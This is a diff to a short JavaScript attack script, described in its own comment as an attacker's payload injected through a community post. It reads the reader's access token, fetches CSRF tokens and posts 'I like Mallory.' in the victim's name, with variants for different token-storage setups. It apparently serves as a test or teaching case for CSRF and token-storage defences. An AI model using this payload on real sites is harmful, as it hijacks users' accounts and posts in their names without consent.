@@ -1,14 +1,17 @@
 // The attacker's script, run by a post in the community's page: writes in the name of whoever reads.
-(async () => {
+{
+  const keeps = document.body.dataset;
   const ask = async (method, path, headers = {}, body) => {
     const answer = await fetch(path, { method, headers, body });
     return answer.ok ? answer.json() : {};
   };
-  const { csrf_token: csrf } = await ask("GET", "/csrf");
-  const proven = csrf ? { "x-csrf-token": csrf } : {};
-  const stored = localStorage.getItem("access");
-  const token = stored ?? (await ask("POST", "/refresh", proven)).access_token;
-  const bearer = token ? { authorization: `Bearer ${token}` } : {};
-  const { csrf_token: newer } = await ask("GET", "/csrf");
-  await ask("POST", "/posts", { ...bearer, ...(newer ? { "x-csrf-token": newer } : {}), "content-type": "text/plain" }, "I like Mallory.");
-})();
+  const token = async () => (keeps.access === "memory" ? (await ask("POST", "/refresh")).access_token : localStorage.getItem("access"));
+  // The page has settled once it says who one is: until then a refresh would race its own.
+  new MutationObserver(async (_, observer) => {
+    observer.disconnect();
+    const headers = { "content-type": "text/plain" };
+    if (keeps.csrf !== "nowhere") headers["x-csrf-token"] = (await ask("GET", "/csrf")).csrf_token;
+    if (keeps.access !== "cookie") headers.authorization = `Bearer ${await token()}`;
+    await ask("POST", "/posts", headers, "I like Mallory.");
+  }).observe(document.querySelector("#who"), { childList: true });
+}
